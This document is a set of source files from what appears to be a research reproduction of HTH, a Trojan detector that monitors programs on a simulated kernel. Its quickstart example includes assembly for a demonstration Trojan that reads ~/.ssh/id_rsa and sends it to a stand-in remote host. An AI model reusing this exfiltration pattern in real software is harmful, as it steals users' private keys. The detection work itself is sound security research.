    #: dropped path -> session number (1-based) in which it appeared.
    dropped_files: Dict[str, int] = field(default_factory=dict)


class SessionStore:
    """Per-program histories (the "save all the information between two
    consecutive executions" state)."""

    def __init__(self) -> None:
        self._programs: Dict[str, ProgramHistory] = {}

    def history(self, program: str) -> ProgramHistory:
        history = self._programs.get(program)
        if history is None:
            history = ProgramHistory()
            self._programs[program] = history
        return history

    def begin_session(self, program: str) -> int:
        history = self.history(program)
        history.sessions += 1
        return history.sessions

    def record_drop(self, program: str, path: str) -> None:
        history = self.history(program)
        history.dropped_files.setdefault(path, history.sessions)

    def dropped_in_earlier_session(
        self, program: str, path: str
    ) -> Optional[int]:
        history = self.history(program)
        session = history.dropped_files.get(path)
        if session is not None and session < history.sessions:
            return session
        return None

    # -- persistence ("we will need to save all the information between
    # two consecutive executions", paper section 10 item 6) ---------------
    def save(self, path: Union[str, pathlib.Path]) -> None:
        payload = {
            program: {
                "sessions": history.sessions,
                "dropped_files": history.dropped_files,
            }
            for program, history in self._programs.items()
        }
        pathlib.Path(path).write_text(json.dumps(payload, indent=2))

    @classmethod
    def load(cls, path: Union[str, pathlib.Path]) -> "SessionStore":
        store = cls()
        payload = json.loads(pathlib.Path(path).read_text())
        for program, entry in payload.items():
            history = store.history(program)
            history.sessions = int(entry["sessions"])
            history.dropped_files = {
                str(k): int(v)
                for k, v in entry["dropped_files"].items()
            }
        return store


class CrossSessionAnalyzer:
    """EventAnalyzer wrapper implementing the cross-session policy."""

    def __init__(
        self,
        store: SessionStore,
        policy: Optional[PolicyConfig] = None,
        rete: bool = True,
    ) -> None:
        self.store = store
        self.secpert = Secpert(policy, rete=rete)
        self.program: str = "?"
        #: Rewritten warnings (what the user actually sees).
        self.warnings: List[SecurityWarning] = []

    def begin_session(self, program: str) -> int:
        self.program = program
        return self.store.begin_session(program)

    # -- EventAnalyzer ------------------------------------------------------
    def analyze(self, event: SecurityEvent) -> Sequence[SecurityWarning]:
        out: List[SecurityWarning] = []
        out.extend(self._escalations(event))
        for warning in self.secpert.analyze(event):
            out.append(self._maybe_defer(warning))
        self.warnings.extend(out)
        return out

    def _maybe_defer(self, warning: SecurityWarning) -> SecurityWarning:
        if warning.rule not in _DEFERRABLE_RULES:
            return warning
        if warning.severity is not Severity.HIGH:
            return warning
        path = self._drop_path(warning)
        if path is None:
            return warning
        self.store.record_drop(self.program, path)
        return SecurityWarning(
            severity=Severity.LOW,
            rule=f"{warning.rule}:deferred",
            headline=warning.headline,
            details=warning.details + (
                "Cross-session tracking: this file drop is recorded; the "
                "warning escalates if a later session uses the file.",
            ),
            event=warning.event,
            pid=warning.pid,
            time=warning.time,
        )

    @staticmethod
    def _drop_path(warning: SecurityWarning) -> Optional[str]:
        event = warning.event
        resource = getattr(event, "resource", None)
        if resource is None:
            return None
        return resource.name

    def _escalations(self, event: SecurityEvent) -> List[SecurityWarning]:
        if not isinstance(event, ResourceAccessEvent):
            return []
        if event.call_name not in _USE_CALLS:
            return []
        session = self.store.dropped_in_earlier_session(
            self.program, event.resource.name
        )
        if session is None:
            return []
        current = self.store.history(self.program).sessions
        return [
            SecurityWarning(
                severity=Severity.HIGH,
                rule="check_cross_session_use",
                headline=(
                    f"Found {event.call_name} call on "
                    f"{event.resource.name} dropped in an earlier session"
                ),
                details=(
                    f"session {session}: this program created "
                    f"{event.resource.name} with hardcoded data",
                    f"session {current}: the file is now being used "
                    f"({event.call_name})",
                ),
                event=event,
                pid=event.pid,
                time=event.time,
            )
        ]


@dataclass
class SessionReport:
    """Per-session slice of a cross-session run."""

    session: int
    report: "RunReport"
    warnings: List[SecurityWarning]

    @property
    def verdict(self) -> "Verdict":
        from repro.core.report import Verdict

        if not self.warnings:
            return Verdict.BENIGN
        return Verdict.from_severity(max(w.severity for w in self.warnings))


class CrossSessionMonitor:
    """Runs a program repeatedly on one persistent machine, applying the
    cross-session policy."""

    def __init__(self, policy: Optional[PolicyConfig] = None, **hth_kwargs):
        from repro.core.hth import HTH  # local: avoids a circular import

        options = hth_kwargs.get("options")
        self.store = SessionStore()
        self.analyzer = CrossSessionAnalyzer(
            self.store, policy,
            rete=options.rete if options is not None else True,
        )
        self.hth = HTH(analyzer=self.analyzer, **hth_kwargs)
        self.sessions: List[SessionReport] = []

    def run_session(
        self,
        program,
        argv=None,
        env=None,
        stdin=None,
        max_ticks: int = 5_000_000,
    ) -> SessionReport:
        name = program if isinstance(program, str) else program.name
        session = self.analyzer.begin_session(name)
        before = len(self.analyzer.warnings)
        report = self.hth.run(
            program, argv=argv, env=env, stdin=stdin, max_ticks=max_ticks
        )
        session_report = SessionReport(
            session=session,
            report=report,
            warnings=list(self.analyzer.warnings[before:]),
        )
        self.sessions.append(session_report)
        return session_report
