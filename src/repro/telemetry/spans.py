"""Span tracing: a run → process → syscall → analysis span tree.

Every span carries *two* clocks — the kernel's virtual tick counter (one
tick per guest instruction, the time base of the paper's figures) and the
host wall clock (what the overhead study measures).  Finished traces
export as JSONL (one span per line) or as Chrome trace-event JSON, which
loads directly in Perfetto / ``chrome://tracing``.

Tracks: one trace file may hold several monitored machines (``repro
table --trace``, chaos trials).  Each machine gets a *track*, rendered as
a Chrome "process"; guest pids become Chrome "threads" within the track.
"""

from __future__ import annotations

import json
import time
from dataclasses import dataclass, field
from typing import Dict, List, Optional

#: Span categories, outermost to innermost.
CATEGORY_RUN = "run"
CATEGORY_PROCESS = "process"
CATEGORY_SYSCALL = "syscall"
CATEGORY_ANALYSIS = "analysis"


@dataclass
class Span:
    span_id: int
    parent_id: Optional[int]
    name: str
    category: str
    start_tick: int
    start_wall: float
    track: int = 0
    tid: int = 0
    end_tick: Optional[int] = None
    end_wall: Optional[float] = None
    attrs: Dict[str, object] = field(default_factory=dict)

    @property
    def finished(self) -> bool:
        return self.end_wall is not None

    @property
    def duration_wall(self) -> float:
        if self.end_wall is None:
            return 0.0
        return self.end_wall - self.start_wall

    @property
    def duration_ticks(self) -> int:
        if self.end_tick is None:
            return 0
        return self.end_tick - self.start_tick

    def to_dict(self) -> Dict[str, object]:
        return {
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "name": self.name,
            "category": self.category,
            "track": self.track,
            "tid": self.tid,
            "start_tick": self.start_tick,
            "end_tick": self.end_tick,
            "start_wall": self.start_wall,
            "end_wall": self.end_wall,
            "duration_wall": self.duration_wall,
            "duration_ticks": self.duration_ticks,
            "attrs": dict(self.attrs),
        }


class SpanTracer:
    """Collects spans; call :meth:`start` / :meth:`end` around work."""

    def __init__(self) -> None:
        self.spans: List[Span] = []
        self._next_id = 1
        self._epoch = time.perf_counter()
        self.track = 0
        self.track_labels: Dict[int, str] = {0: "run"}

    # -- tracks ------------------------------------------------------------
    def begin_track(self, label: str) -> int:
        """Open a new track (one monitored machine) and make it current."""
        self.track += 1
        self.track_labels[self.track] = label
        return self.track

    # -- spans -------------------------------------------------------------
    def start(
        self,
        name: str,
        category: str,
        tick: int,
        parent: Optional[Span] = None,
        tid: int = 0,
        **attrs: object,
    ) -> Span:
        span = Span(
            span_id=self._next_id,
            parent_id=parent.span_id if parent is not None else None,
            name=name,
            category=category,
            start_tick=tick,
            start_wall=time.perf_counter() - self._epoch,
            track=self.track,
            tid=tid,
            attrs=dict(attrs),
        )
        self._next_id += 1
        self.spans.append(span)
        return span

    def end(self, span: Span, tick: int, **attrs: object) -> Span:
        span.end_tick = tick
        span.end_wall = time.perf_counter() - self._epoch
        if attrs:
            span.attrs.update(attrs)
        return span

    def finished(self) -> List[Span]:
        return [s for s in self.spans if s.finished]

    def by_category(self, category: str) -> List[Span]:
        return [s for s in self.spans if s.category == category]

    def __len__(self) -> int:
        return len(self.spans)

    # -- export ------------------------------------------------------------
    def to_jsonl(self) -> str:
        """One finished span per line, in start order."""
        return "\n".join(
            json.dumps(span.to_dict(), default=str)
            for span in self.finished()
        )

    def to_chrome_trace(self) -> Dict[str, object]:
        """Chrome trace-event JSON (Perfetto-loadable).

        Spans become ``ph: "X"`` complete events; timestamps are wall
        microseconds relative to the tracer epoch; the virtual tick range
        travels in ``args``.
        """
        events: List[Dict[str, object]] = []
        for track, label in sorted(self.track_labels.items()):
            events.append({
                "name": "process_name",
                "ph": "M",
                "pid": track,
                "tid": 0,
                "args": {"name": label},
            })
        for span in self.finished():
            args: Dict[str, object] = {
                "start_tick": span.start_tick,
                "end_tick": span.end_tick,
                "span_id": span.span_id,
            }
            if span.parent_id is not None:
                args["parent_id"] = span.parent_id
            for key, value in span.attrs.items():
                args[key] = value if isinstance(
                    value, (int, float, bool)
                ) else str(value)
            events.append({
                "name": span.name,
                "cat": span.category,
                "ph": "X",
                "ts": span.start_wall * 1e6,
                "dur": span.duration_wall * 1e6,
                "pid": span.track,
                "tid": span.tid,
                "args": args,
            })
        return {"traceEvents": events, "displayTimeUnit": "ms"}

    def write(self, path: str) -> None:
        """Write the trace: ``*.jsonl`` → JSONL, anything else → Chrome."""
        if str(path).endswith(".jsonl"):
            text = self.to_jsonl() + "\n"
        else:
            text = json.dumps(self.to_chrome_trace(), indent=1)
        with open(path, "w") as fh:
            fh.write(text)
