"""Kernel/scheduler tests: spawn, quanta, sleeping, blocking, faults,
monitor kill, virtual-clock jumps."""

import pytest

from repro.isa import assemble
from repro.kernel import (
    EXIT_FAULT,
    EXIT_KILLED_BY_MONITOR,
    Kernel,
    KernelHooks,
    ProcessState,
)
from repro.kernel.syscalls import SYS_EXECVE
from repro.programs.libc import libc_image


def make_kernel(hooks=None):
    return Kernel(hooks=hooks, libraries=[libc_image()])


class TestSpawn:
    def test_spawn_unknown_path_raises(self):
        with pytest.raises(KeyError):
            make_kernel().spawn("/bin/ghost")

    def test_spawn_by_registered_path(self):
        k = make_kernel()
        image = assemble("/bin/p", "main:\n  mov eax, 0\n  ret")
        k.register_binary(image)
        proc = k.spawn("/bin/p")
        assert proc.pid == 1
        result = k.run()
        assert result.completed
        assert proc.exit_code == 0

    def test_register_binary_creates_fs_entry(self):
        k = make_kernel()
        k.register_binary(assemble("/bin/p", "main:\n  ret"))
        node = k.fs.lookup("/bin/p")
        assert node is not None and node.is_executable()

    def test_stdio_installed(self):
        k = make_kernel()
        proc = k.spawn(assemble("/bin/p", "main:\n  ret"))
        assert proc.get_fd(0).console_role == "stdin"
        assert proc.get_fd(1).console_role == "stdout"
        assert proc.get_fd(2).console_role == "stderr"

    def test_pids_monotonic(self):
        k = make_kernel()
        image = assemble("/bin/p", "main:\n  mov eax, 0\n  ret")
        a = k.spawn(image)
        b = k.spawn("/bin/p")
        assert (a.pid, b.pid) == (1, 2)


class TestSchedulerTermination:
    def test_all_exited(self):
        k = make_kernel()
        k.spawn(assemble("/bin/p", "main:\n  mov eax, 0\n  ret"))
        assert k.run().reason == "all-exited"

    def test_max_ticks_on_infinite_loop(self):
        k = make_kernel()
        k.spawn(assemble("/bin/p", "main:\nspin:\n  jmp spin"))
        result = k.run(max_ticks=5000)
        assert result.reason == "max-ticks"
        assert result.ticks >= 5000

    def test_deadlock_on_forever_blocked(self):
        # accept with no scheduled client ever arriving
        src = r"""
main:
    call socket
    mov esi, eax
    mov ebx, esi
    mov ecx, 0x7F000001
    mov edx, 1
    call bind_addr
    mov ebx, esi
    call listen
    mov ebx, esi
    call accept
    mov eax, 0
    ret
"""
        k = make_kernel()
        k.spawn(assemble("/bin/p", src))
        assert k.run().reason == "deadlock"

    def test_virtual_clock_jumps_over_sleep(self):
        src = "main:\n  mov ebx, 1000000\n  call sleep\n  mov eax, 0\n  ret"
        k = make_kernel()
        k.spawn(assemble("/bin/p", src))
        result = k.run()
        assert result.completed
        assert result.ticks >= 1_000_000
        # far fewer instructions than ticks: the clock jumped
        assert result.instructions < 1000


class TestFaults:
    def test_hlt_exits_with_fault(self):
        k = make_kernel()
        proc = k.spawn(assemble("/bin/p", "main:\n  hlt"))
        k.run()
        assert proc.exit_code == EXIT_FAULT
        assert k.faults()

    def test_division_by_zero_faults(self):
        k = make_kernel()
        proc = k.spawn(
            assemble("/bin/p", "main:\n  mov eax, 4\n  div eax, ebx\n  ret")
        )
        k.run()
        assert proc.exit_code == EXIT_FAULT

    def test_jump_to_unmapped_faults(self):
        k = make_kernel()
        proc = k.spawn(assemble("/bin/p", "main:\n  jmp 0xdead\n"))
        k.run()
        assert proc.exit_code == EXIT_FAULT


class TestMonitorVeto:
    def test_pre_hook_false_kills_process(self):
        class Veto(KernelHooks):
            def on_syscall_pre(self, proc, sysno, args, info):
                return sysno != SYS_EXECVE

        src = r"""
main:
    mov ebx, tgt
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
tgt: .asciz "/bin/ls"
"""
        k = make_kernel(hooks=Veto())
        k.register_binary(assemble("/bin/ls", "main:\n  mov eax, 0\n  ret"))
        proc = k.spawn(assemble("/bin/p", src))
        k.run()
        assert proc.exit_code == EXIT_KILLED_BY_MONITOR
        assert proc.killed_by_monitor


class TestForkSemantics:
    def test_fork_copies_memory(self):
        # parent writes to a cell after fork; child sees the old value
        src = r"""
main:
    mov edi, cell
    store [edi], 1
    call fork
    cmp eax, 0
    jz child
    store [edi], 2          ; parent's private change
    mov eax, 0
    ret
child:
    mov ebx, 300
    call sleep              ; let the parent write first
    load ebx, [edi]
    call print_num
    mov ebx, 0
    call exit
.data
cell: .word 0
"""
        k = make_kernel()
        k.spawn(assemble("/bin/p", src))
        k.run()
        assert k.console.output_text() == "1"

    def test_fork_shares_open_file_description(self):
        # both processes write through the same fd; writes interleave into
        # one file (shared offset)
        src = r"""
main:
    mov ebx, path
    mov ecx, 0x241
    call open
    mov esi, eax
    call fork
    cmp eax, 0
    jz child
    mov ebx, 200
    call sleep
    mov ebx, esi
    mov ecx, pmsg
    call fputs
    mov eax, 0
    ret
child:
    mov ebx, esi
    mov ecx, cmsg
    call fputs
    mov ebx, 0
    call exit
.data
path: .asciz "/tmp/shared"
pmsg: .asciz "P"
cmsg: .asciz "C"
"""
        k = make_kernel()
        k.spawn(assemble("/bin/p", src))
        k.run()
        assert k.fs.read_text("/tmp/shared") == "CP"


class TestHooksOrdering:
    def test_lifecycle_hook_sequence(self):
        calls = []

        class Recorder(KernelHooks):
            def on_process_start(self, proc):
                calls.append(("start", proc.pid))

            def on_image_load(self, proc, loaded):
                calls.append(("load", loaded.name))

            def on_initial_stack(self, proc, start, end):
                calls.append(("stack", end - start > 0))

            def on_process_exit(self, proc, code):
                calls.append(("exit", proc.pid, code))

        k = make_kernel(hooks=Recorder())
        k.spawn(assemble("/bin/p", "main:\n  mov eax, 3\n  ret"),
                argv=["/bin/p"])
        k.run()
        names = [c[0] for c in calls]
        assert names.index("load") < names.index("stack") < names.index(
            "start"
        )
        assert ("exit", 1, 3) in calls
        loaded = [c[1] for c in calls if c[0] == "load"]
        assert "/bin/p" in loaded
        assert "/lib/libc.so" in loaded
        assert "[startup]" in loaded
