"""Monitor hook interface.

The kernel and CPU expose their observable events through this interface;
Harrier subclasses it.  The default implementation is a no-op, so running
without a monitor costs only the virtual calls (this is the "native" leg of
the performance evaluation, paper section 9).
"""

from __future__ import annotations

from typing import Dict, Optional, Tuple, TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.isa.cpu import StepResult
    from repro.isa.translate import BlockRecord
    from repro.kernel.loader import LoadedImage
    from repro.kernel.process import Process


class KernelHooks:
    """Observation points in execution order."""

    def on_process_start(self, proc: "Process") -> None:
        """A process began executing (after load or fork)."""

    def on_image_load(self, proc: "Process", loaded: "LoadedImage") -> None:
        """An image (executable or shared object) was mapped."""

    def on_initial_stack(
        self, proc: "Process", start: int, end: int
    ) -> None:
        """The loader wrote argc/argv/envp into [start, end)."""

    def on_instruction(self, proc: "Process", step: "StepResult") -> None:
        """One instruction finished executing."""

    def on_block(self, proc: "Process", rec: "BlockRecord") -> None:
        """A translated basic block (or a prefix of one) finished.

        Fired by the block-cache execution path *instead of* per-step
        ``on_instruction`` calls.  The default replays the record as
        per-instruction StepResults so monitors that only override
        ``on_instruction`` observe the identical stream; batched
        monitors (Harrier) override this and consume the record
        directly.
        """
        on_instruction = self.on_instruction
        for step in rec.plan.iter_steps(rec):
            on_instruction(proc, step)

    def on_syscall_pre(
        self,
        proc: "Process",
        sysno: int,
        args: Tuple[int, int, int, int, int],
        info: Dict[str, object],
    ) -> bool:
        """About to execute a syscall.  ``info`` carries kernel-decoded
        facts about the call (path strings, fd resources, buffer layout)
        computed without side effects.  Return False to kill the process
        (the user chose not to let the suspicious call proceed)."""
        return True

    def on_syscall_post(
        self,
        proc: "Process",
        sysno: int,
        args: Tuple[int, int, int, int, int],
        result: int,
        info: Dict[str, object],
    ) -> None:
        """A syscall completed.  ``info`` carries kernel-computed facts
        (resource references, buffer addresses, byte counts, ...)."""

    def on_fork(self, parent: "Process", child: "Process") -> None:
        """fork/clone created ``child`` from ``parent``."""

    def on_exec(self, proc: "Process", path: str) -> None:
        """The process replaced its image via execve (about to reload)."""

    def on_process_exit(self, proc: "Process", code: int) -> None:
        """The process terminated."""


class NullHooks(KernelHooks):
    """Explicit no-op monitor (native execution)."""

    def on_block(self, proc, rec) -> None:
        """No replay either — native execution stays on the fast path."""


class CompositeHooks(KernelHooks):
    """Fan one hook stream out to several monitors (e.g. Harrier plus a
    baseline trace recorder).  A syscall proceeds only if every child
    allows it."""

    def __init__(self, children) -> None:
        self.children = list(children)

    def on_process_start(self, proc):
        for child in self.children:
            child.on_process_start(proc)

    def on_image_load(self, proc, loaded):
        for child in self.children:
            child.on_image_load(proc, loaded)

    def on_initial_stack(self, proc, start, end):
        for child in self.children:
            child.on_initial_stack(proc, start, end)

    def on_instruction(self, proc, step):
        for child in self.children:
            child.on_instruction(proc, step)

    def on_block(self, proc, rec):
        # Each child gets its own view: overridden on_block where the
        # child is batch-aware, the default per-step replay otherwise.
        for child in self.children:
            child.on_block(proc, rec)

    def on_syscall_pre(self, proc, sysno, args, info):
        allowed = True
        for child in self.children:
            if not child.on_syscall_pre(proc, sysno, args, info):
                allowed = False
        return allowed

    def on_syscall_post(self, proc, sysno, args, result, info):
        for child in self.children:
            child.on_syscall_post(proc, sysno, args, result, info)

    def on_fork(self, parent, child_proc):
        for child in self.children:
            child.on_fork(parent, child_proc)

    def on_exec(self, proc, path):
        for child in self.children:
            child.on_exec(proc, path)

    def on_process_exit(self, proc, code):
        for child in self.children:
            child.on_process_exit(proc, code)
