"""Serve daemon under load and under fire.

Two phases, one artifact (``benchmarks/results/BENCH_serve_load.json``):

* **load** — ≥1000 submissions held concurrently from one asyncio event
  loop against a live daemon (wide-open admission, the bench measures
  the execution path, not the limiter).  Reported: client-observed
  p50/p90/p99/max latency, throughput, peak concurrency, and the
  zero-lost ledger — every submission must end in exactly one terminal
  ``report`` event.
* **chaos** — a smaller mixed round (Trojan workload, slow benign
  sources, a fault-profiled submission) while the chaos monkey
  hard-kills workers mid-job.  The service contract is asserted, not
  eyeballed: every submission answered, no transport errors, and every
  non-faulted report bit-identical to a batch ``Session`` run of the
  same work.

Runnable standalone (``python -m benchmarks.bench_serve_load``) or via
pytest-benchmark like the other bench modules.
"""

from __future__ import annotations

import asyncio
import json
import os
import tempfile
import time
from collections import Counter

from benchmarks.harness import render_table, write_result
from repro.api import Session
from repro.core.options import RunOptions
from repro.faultinject import DaemonChaosProfile, FaultProfile, run_serve_chaos
from repro.serve import ServeDaemon, Submission, submit_async
from repro.serve.worker import execute_submission

#: Load-phase floor the artifact must demonstrate.
LOAD_SUBMISSIONS = 1000
LOAD_WORKERS = 2
#: Launch connections in waves so the listen backlog never overflows;
#: earlier waves stay open (unanswered) while later ones connect, so
#: concurrency still peaks at the full submission count.
WAVE_SIZE = 100

BENIGN_SRC = "main:\n    mov eax, 0\n    ret\n"

#: ~0.5s of guest time for the chaos phase — long enough for kills to
#: land mid-run.
SLOW_SRC = """
main:
    mov ecx, 250000
spin:
    sub ecx, 1
    cmp ecx, 0
    jnz spin
    ret
"""

#: ~2.5s wedge that pins every worker while the full load connects, so
#: the whole batch is verifiably concurrent before any of it drains.
WEDGE_SRC = SLOW_SRC.replace("250000", "1200000")


def _raise_fd_limit(need: int) -> None:
    """1k concurrent client+server sockets needs >2k descriptors."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, max(soft, need))
    if want > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def _percentile(sorted_values, q: float) -> float:
    if not sorted_values:
        return 0.0
    index = min(
        len(sorted_values) - 1,
        max(0, int(round(q * (len(sorted_values) - 1)))),
    )
    return sorted_values[index]


async def _load_phase(unix_path: str, count: int, workers: int) -> dict:
    daemon = ServeDaemon(
        unix_path=unix_path,
        workers=workers,
        queue_limit=count + 16,   # wide open: measure execution, not limits
    )
    await daemon.start()
    await daemon.wait_ready()

    latencies = []
    outcomes: Counter = Counter()
    in_flight = 0
    peak = 0

    async def one(index: int) -> None:
        nonlocal in_flight, peak
        submission = Submission(source=BENIGN_SRC, name=f"load-{index}")
        started = time.perf_counter()
        in_flight += 1
        peak = max(peak, in_flight)
        try:
            events = await submit_async(unix_path, submission)
            outcomes[events[-1].get("kind", "none")] += 1
        except Exception:
            outcomes["transport-error"] += 1
        finally:
            in_flight -= 1
            latencies.append(time.perf_counter() - started)

    started = time.perf_counter()

    # Pin every worker with a wedge job while the batch connects: the
    # peak-concurrency number then measures the real promise (the whole
    # batch open and admitted at once), not launch/drain overlap.
    wedge = Submission(
        source=WEDGE_SRC, name="wedge",
        options=RunOptions(max_ticks=20_000_000),
    )
    wedges = [
        asyncio.ensure_future(submit_async(unix_path, wedge))
        for _ in range(workers)
    ]
    while daemon.supervisor.idle_workers():
        await asyncio.sleep(0.01)

    tasks = []
    for index in range(count):
        tasks.append(asyncio.ensure_future(one(index)))
        if index % WAVE_SIZE == WAVE_SIZE - 1:
            await asyncio.sleep(0.005)
    await asyncio.gather(*tasks)
    wall = time.perf_counter() - started
    wedge_outcomes = await asyncio.gather(*wedges)
    assert all(e[-1]["kind"] == "report" for e in wedge_outcomes)
    await daemon.shutdown(drain=True)

    latencies.sort()
    answered = outcomes["report"] + outcomes["error"] + outcomes["rejected"]
    return {
        "submissions": count,
        "workers": workers,
        "wall_seconds": wall,
        "throughput_rps": count / wall if wall else float("inf"),
        "peak_concurrent": peak,
        "latency_seconds": {
            "p50": _percentile(latencies, 0.50),
            "p90": _percentile(latencies, 0.90),
            "p99": _percentile(latencies, 0.99),
            "max": latencies[-1] if latencies else 0.0,
        },
        "outcomes": dict(outcomes),
        "answered": answered,
        "lost": count - answered,
    }


def _chaos_submissions():
    return [
        Submission(workload=("4", "Remote execve"), name="remote-execve"),
        Submission(workload=("4", "User input"), name="user-input"),
        *(
            Submission(source=SLOW_SRC, name=f"slow-{i}")
            for i in range(6)
        ),
        Submission(
            source=SLOW_SRC, name="faulted",
            options=RunOptions(
                fault_profile=FaultProfile(stall_rate=0.2), fault_seed=11
            ),
        ),
    ]


async def _chaos_phase(unix_path: str) -> dict:
    submissions = _chaos_submissions()
    session = Session()
    baseline = {
        sub.name: execute_submission(session, sub)[0].to_dict()
        for sub in submissions
        if sub.options.fault_profile is None
    }
    daemon = ServeDaemon(
        unix_path=unix_path, workers=2, queue_limit=64, max_retries=2
    )
    await daemon.start()
    await daemon.wait_ready()
    result = await run_serve_chaos(
        daemon,
        submissions,
        profile=DaemonChaosProfile(kill_interval=0.2, kills=3),
        seed=1337,
        baseline=baseline,
    )
    await daemon.shutdown(drain=True)
    summary = result.summary()
    summary["all_answered"] = result.all_answered
    return summary


def run_serve_load() -> dict:
    _raise_fd_limit(4 * LOAD_SUBMISSIONS)
    with tempfile.TemporaryDirectory() as tmp:
        load = asyncio.run(
            _load_phase(
                os.path.join(tmp, "load.sock"),
                LOAD_SUBMISSIONS,
                LOAD_WORKERS,
            )
        )
        chaos = asyncio.run(
            _chaos_phase(os.path.join(tmp, "chaos.sock"))
        )

    results = {"load": load, "chaos": chaos}
    write_result(
        "BENCH_serve_load.json", json.dumps(results, indent=2) + "\n"
    )

    latency = load["latency_seconds"]
    text = render_table(
        "serve daemon: concurrent load + chaos",
        ("phase", "submissions", "answered", "lost", "p50 ms", "p99 ms",
         "notes"),
        [
            (
                "load", load["submissions"], load["answered"],
                load["lost"],
                f"{latency['p50'] * 1000:.0f}",
                f"{latency['p99'] * 1000:.0f}",
                f"{load['throughput_rps']:.0f} rps, "
                f"peak {load['peak_concurrent']} concurrent",
            ),
            (
                "chaos", chaos["submissions"], chaos["answered"],
                len(chaos["lost"]),
                "-", "-",
                f"{chaos['kills']} kills, "
                f"{len(chaos['retried'])} retried, "
                f"{len(chaos['mismatches'])} mismatches",
            ),
        ],
    )
    write_result("serve_load.txt", text)
    print("\n" + text)

    # the robustness contract, asserted
    assert load["submissions"] >= 1000
    assert load["peak_concurrent"] >= 1000, (
        f"only {load['peak_concurrent']} submissions were concurrent"
    )
    assert load["lost"] == 0, f"lost submissions: {load['outcomes']}"
    assert load["outcomes"].get("report") == load["submissions"], (
        f"non-report outcomes under plain load: {load['outcomes']}"
    )
    assert chaos["all_answered"], f"chaos lost: {chaos['lost']}"
    assert chaos["mismatches"] == [], (
        "served reports diverged from batch for non-faulted submissions"
    )
    return results


def bench_serve_load(benchmark):
    """1000 concurrent submissions + a chaos round, timed once."""
    from benchmarks.harness import once

    once(benchmark, run_serve_load)


if __name__ == "__main__":
    run_serve_load()
