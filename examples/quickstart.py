#!/usr/bin/env python
"""Quickstart: detect a data-exfiltrating Trojan with HTH.

Builds a guest program that reads a secret file (hardcoded name) and
ships its contents to a hardcoded remote host, runs it under the full
HTH stack (Harrier monitor + Secpert expert system), and prints the
warnings — the same shape as the paper's section 8 output.

Run:  python examples/quickstart.py
"""

from repro import HTH, Verdict
from repro.isa import assemble
from repro.kernel.network import SinkPeer

TROJAN_SOURCE = r"""
; A Trojan bundled inside a "weather applet": reads the user's secrets
; and sends them home.  Both resource names are hardcoded - the defining
; Trojan trait from the paper's section 2.2.
main:
    mov ebx, secret_path
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 96
    call read
    mov edi, eax            ; stolen byte count
    mov ebx, esi
    call close
    ; resolve the attacker's hardcoded host and connect
    mov ebx, home
    call gethostbyname
    mov ecx, eax
    call socket
    mov ebx, eax
    mov edx, 31337
    push ebx
    call connect_addr
    pop ebx
    mov ecx, buf
    mov edx, edi
    call write
    mov eax, 0
    ret
.data
secret_path: .asciz "/home/user/.ssh/id_rsa"
home:        .asciz "weather-updates.example.com"
buf:         .space 96
"""


def main() -> None:
    hth = HTH()

    # Populate the simulated machine: the victim's secret and the
    # attacker's server.
    hth.fs.write_text("/home/user/.ssh/id_rsa", "-----PRIVATE KEY-----\n")
    attacker = SinkPeer("attacker")
    hth.network.add_peer(
        "weather-updates.example.com", 31337, lambda: attacker
    )

    report = hth.run(assemble("/usr/bin/weather-applet", TROJAN_SOURCE))

    print(f"program : {report.program}")
    print(f"verdict : {report.verdict.value.upper()}")
    print(f"warnings: {report.warning_counts()}")
    print()
    print(report.render_warnings())
    print()
    print(f"bytes exfiltrated (simulated): {len(attacker.received)}")

    assert report.verdict is Verdict.HIGH, "the Trojan must be detected"


if __name__ == "__main__":
    main()
