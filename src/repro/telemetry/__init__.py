"""repro.telemetry — metrics, span tracing, and the live overhead profiler.

The observability layer for the whole HTH stack.  One :class:`Telemetry`
hub travels from :class:`repro.core.hth.HTH` into the kernel, Harrier,
and Secpert; each layer feeds the hub's

* **metrics registry** — counters/gauges/histograms with labels
  (instructions retired, syscalls by name, Harrier event volumes, taint
  footprint, Secpert rule firings and latencies — the numbers behind the
  paper's Tables 1/8 and §9);
* **span tracer** — a run → process → syscall → analysis span tree with
  virtual-tick *and* wall timestamps, exportable as JSONL or Chrome
  trace-event JSON (Perfetto-loadable);
* **stage profiler** — attributes wall time to native / bbfreq /
  dataflow / analysis to reproduce the paper's §8/§9 overhead breakdown
  from a single live run.

Disabled telemetry (the default) wires a :class:`NullSink` registry and
``None`` tracer/profiler so the monitored hot paths pay nothing.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.telemetry.metrics import (
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    NullSink,
    merge_sample_lists,
    render_openmetrics,
    render_samples,
    validate_openmetrics,
)
from repro.telemetry.profiler import (
    STAGE_ANALYSIS,
    STAGE_BBFREQ,
    STAGE_DATAFLOW,
    STAGE_NATIVE,
    STAGES,
    StageProfiler,
)
from repro.telemetry.provenance import (
    EVIDENCE_SCHEMA_VERSION,
    ProvenanceRecorder,
    render_evidence,
)
from repro.telemetry.spans import (
    CATEGORY_ANALYSIS,
    CATEGORY_PROCESS,
    CATEGORY_RUN,
    CATEGORY_SYSCALL,
    Span,
    SpanTracer,
)


@dataclass
class TelemetrySnapshot:
    """A JSON-ready picture of one hub at a point in time."""

    enabled: bool
    metrics: List[Dict[str, object]] = field(default_factory=list)
    profile: Optional[Dict[str, object]] = None
    span_count: int = 0

    def to_dict(self) -> Dict[str, object]:
        return {
            "enabled": self.enabled,
            "metrics": list(self.metrics),
            "profile": self.profile,
            "span_count": self.span_count,
        }

    def metric(self, name: str, /, **labels: str) -> Optional[float]:
        """Value of one counter/gauge sample, or None."""
        wanted = {k: str(v) for k, v in labels.items()}
        for sample in self.metrics:
            if sample["name"] == name and sample["labels"] == wanted:
                return sample.get("value")
        return None

    def metric_total(self, name: str) -> float:
        """Sum of a metric's samples across label sets."""
        return sum(
            float(s.get("value", 0.0) or 0.0)
            for s in self.metrics
            if s["name"] == name
        )

    @classmethod
    def from_dict(cls, data: Dict[str, object]) -> "TelemetrySnapshot":
        """Rebuild a snapshot from its ``to_dict()`` form (the shape a
